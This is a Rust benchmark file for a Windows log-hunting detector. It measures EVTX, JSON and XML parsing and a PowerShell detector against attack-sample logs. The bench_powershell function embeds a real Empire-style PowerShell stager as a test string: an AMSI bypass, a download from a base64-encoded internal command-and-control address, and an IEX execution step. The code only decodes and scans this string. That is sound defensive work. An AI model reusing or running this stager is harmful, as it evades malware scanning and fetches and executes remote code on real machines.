//! Criterion benches of the Windows side, on the real samples of the shared corpus
//! (each bench is skipped, with a note, when its sample is absent):
//!
//! * `evtx/read`: the EVTX source over real Sysmon and PowerShell logs (relevant
//!   records found by event id before rendering);
//! * `json/read`: the JSON source over an OTRF Security-Datasets export;
//! * `json/relevance`: the relevance probe alone (event id before any value tree)
//!   over every object of that export;
//! * `evtx/event_build`: rendering every record of a Sysmon log and building its
//!   Windows event (the XML round trip the hunt pays for each relevant record);
//! * `xml/read`: the event-XML source over a `wevtutil`-style document;
//! * `powershell/decode`, `powershell/suppression`: -EncodedCommand decoding and the
//!   normalization + suppression scan of a real Empire stager;
//! * `detect/powershell`: the PowerShell detector over the JSON sample's events.
//!
//! `cargo bench --bench windows`.

use std::hint::black_box;
use std::io::BufReader;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use sighunt_core::detectors::powershell::{self, PowerShellDetector};
use sighunt_core::detectors::{Detector, Findings};
use sighunt_core::event::Event;
use sighunt_core::input::Payload;
use sighunt_core::rules::Rules;
use sighunt_core::sources::windows;

fn corpus(rel: &str) -> Option<PathBuf> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../shared/corpus/windows")
        .join(rel);
    if p.exists() {
        Some(p)
    } else {
        eprintln!("skipped: {} is absent", p.display());
        None
    }
}

use sighunt_core::sources::CollectingSink as Collect;

const EVTX: &[&str] = &[
    "sbousseaden_EVTX-ATTACK-SAMPLES_PanacheSysmon_vs_AtomicRedTeam01.evtx",
    "mdecrevoisier_EVTX-to-MITRE-Attack_ID4688-Encoded_PowerShell_MSF_payload_via_process_execution.evtx",
];
const JSON: &str = "OTRF_Security-Datasets_empire_launcher_vbs_2020-09-04160940.json";

fn bench_evtx(c: &mut Criterion) {
    let mut g = c.benchmark_group("evtx");
    g.sample_size(20);
    for name in EVTX {
        let Some(path) = corpus(name) else { continue };
        let len = std::fs::metadata(&path).unwrap().len();
        g.throughput(Throughput::Bytes(len));
        let label = name.split('_').nth(2).unwrap_or(name);
        g.bench_function(format!("read/{label}"), |b| {
            b.iter(|| {
                let mut sink = Collect::default();
                let file = std::fs::File::open(&path).unwrap();
                windows::read_evtx(&Arc::from("bench.evtx"), Payload::File(file), &mut sink);
                sink.events.len()
            })
        });
    }
    g.finish();
}

fn bench_evtx_event_build(c: &mut Criterion) {
    let Some(path) = corpus(EVTX[0]) else { return };
    let len = std::fs::metadata(&path).unwrap().len();
    let mut g = c.benchmark_group("evtx");
    g.sample_size(10);
    g.throughput(Throughput::Bytes(len));
    g.bench_function("event_build", |b| {
        b.iter(|| {
            let file = std::fs::File::open(&path).unwrap();
            let mut built = 0usize;
            windows::read_evtx_records(
                &Arc::from("bench.evtx"),
                Payload::File(file),
                &mut |e| panic!("{e}"),
                &mut |xml, _| {
                    built += windows::parse_event_xml(xml.as_bytes()).map_or(0, |e| e.data.len())
                },
            );
            built
        })
    });
    g.finish();
}

fn json_events() -> Option<(Vec<u8>, Vec<Event>)> {
    let data = std::fs::read(corpus(JSON)?).unwrap();
    let mut sink = Collect::default();
    windows::read_json(
        &Arc::from("bench.json"),
        Box::new(BufReader::new(std::io::Cursor::new(data.clone()))),
        &mut sink,
    );
    Some((data, sink.events))
}

/// Shared bytes for a `'static` reader without a copy per iteration.
struct Shared(Arc<[u8]>);

impl AsRef<[u8]> for Shared {
    fn as_ref(&self) -> &[u8] {
        &self.0
    }
}

fn bench_json(c: &mut Criterion) {
    let Some((data, _)) = json_events() else {
        return;
    };
    let data: Arc<[u8]> = Arc::from(data);
    let mut g = c.benchmark_group("json");
    g.sample_size(20);
    g.throughput(Throughput::Bytes(data.len() as u64));
    let lines: Vec<&[u8]> = data
        .split(|&b| b == b'\n')
        .filter(|l| l.starts_with(b"{"))
        .collect();
    g.bench_function("relevance", |b| {
        b.iter(|| {
            lines
                .iter()
                .filter(|l| !windows::certainly_irrelevant(black_box(l)))
                .count()
        })
    });
    g.bench_function("read", |b| {
        b.iter(|| {
            let mut sink = Collect::default();
            windows::read_json(
                &Arc::from("bench.json"),
                Box::new(BufReader::new(std::io::Cursor::new(Shared(data.clone())))),
                &mut sink,
            );
            sink.events.len()
        })
    });
    g.finish();
}

/// A `wevtutil qe /f:xml`-style document: Sysmon process creations and 4104s.
fn xml_doc() -> Vec<u8> {
    let mut doc = String::from("<Events>\n");
    for i in 0..2_000 {
        if i % 2 == 0 {
            doc.push_str(&format!("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{{5770385f-c22a-43e0-bf4c-06f5698ffbd9}}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2020-09-04T20:09:{:02}.845Z'/><EventRecordID>{i}</EventRecordID><Correlation/><Execution ProcessID='2004' ThreadID='3400'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WORKSTATION5.theshire.local</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>2020-09-04 20:09:40.845</Data><Data Name='ProcessGuid'>{{39e4a257-c1d4-5f52-0000-0010{i:08}}}</Data><Data Name='ProcessId'>{}</Data><Data Name='Image'>C:\\Windows\\System32\\svchost.exe</Data><Data Name='CommandLine'>C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule</Data><Data Name='User'>NT AUTHORITY\\SYSTEM</Data><Data Name='ParentImage'>C:\\Windows\\System32\\services.exe</Data></EventData></Event>\n", i % 60, 4000 + i));
        } else {
            doc.push_str(&format!("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-PowerShell' Guid='{{a0c1853b-5c40-4b15-8766-3cf1c58f985a}}'/><EventID>4104</EventID><TimeCreated SystemTime='2020-09-04T20:10:{:02}.100Z'/><EventRecordID>{i}</EventRecordID><Execution ProcessID='{}' ThreadID='1'/><Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>WORKSTATION5.theshire.local</Computer><Security UserID='S-1-5-21-1'/></System><EventData><Data Name='MessageNumber'>1</Data><Data Name='MessageTotal'>1</Data><Data Name='ScriptBlockText'>Get-ChildItem -Path C:\\Users -Recurse -ErrorAction SilentlyContinue | Measure-Object</Data><Data Name='ScriptBlockId'>{{aaaaaaaa-0000-0000-0000-{i:012}}}</Data><Data Name='Path'></Data></EventData></Event>\n", i % 60, 5000 + i));
        }
    }
    doc.push_str("</Events>\n");
    doc.into_bytes()
}

fn bench_xml(c: &mut Criterion) {
    let doc = xml_doc();
    let mut g = c.benchmark_group("xml");
    g.throughput(Throughput::Bytes(doc.len() as u64));
    g.bench_function("read", |b| {
        b.iter(|| {
            let mut sink = Collect::default();
            windows::read_xml(
                &Arc::from("bench.xml"),
                Box::new(std::io::Cursor::new(doc.clone())),
                &mut sink,
            );
            sink.events.len()
        })
    });
    g.finish();
}

fn bench_powershell(c: &mut Criterion) {
    // A real Empire-style stager, as -enc would carry it.
    let script = "If($PSVersionTable.PSVersion.Major -ge 3){$Ref=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils');$Ref.GetField('amsiInitFailed','NonPublic,Static').SetValue($Null,$true);};[System.Net.ServicePointManager]::Expect100Continue=0;$wc=New-Object System.Net.WebClient;$u='Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko';$ser=$([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aAB0AHQAcAA6AC8ALwAxADAALgAxADAALgAxADAALgA1ADoAOAAwAA==')));$t='/login/process.php';$wc.Headers.Add('User-Agent',$u);$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;$ErrorActionPreference = 'SilentlyContinue';$data=$wc.DownloadData($ser+$t);$iv=$data[0..3];$data=$data[4..$data.length];-join[Char[]](& $R $data ($IV+$K))|IEX";
    let encoded = {
        use base64::Engine;
        let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(utf16)
    };
    let mut g = c.benchmark_group("powershell");
    g.throughput(Throughput::Bytes(encoded.len() as u64));
    g.bench_function("decode", |b| {
        b.iter(|| powershell::decode_encoded_command(black_box(&encoded)).map(|s| s.len()))
    });
    g.throughput(Throughput::Bytes(script.len() as u64));
    g.bench_function("suppression", |b| {
        b.iter(|| {
            let norm = powershell::normalize(&powershell::strip_carets(black_box(script)));
            powershell::suppression(&norm).any()
        })
    });
    g.finish();

    let Some((_, events)) = json_events() else {
        return;
    };
    let rules = Rules::embedded();
    let mut g = c.benchmark_group("detect");
    g.sample_size(20);
    g.throughput(Throughput::Elements(events.len() as u64));
    g.bench_function("powershell", |b| {
        b.iter(|| {
            let mut d = PowerShellDetector::new(&rules).unwrap();
            let mut findings = Findings::default();
            for e in &events {
                d.observe(e, &mut findings);
            }
            d.finish(&mut findings);
            findings.len()
        })
    });
    g.finish();
}

criterion_group!(
    benches,
    bench_evtx,
    bench_evtx_event_build,
    bench_json,
    bench_xml,
    bench_powershell
);
criterion_main!(benches);
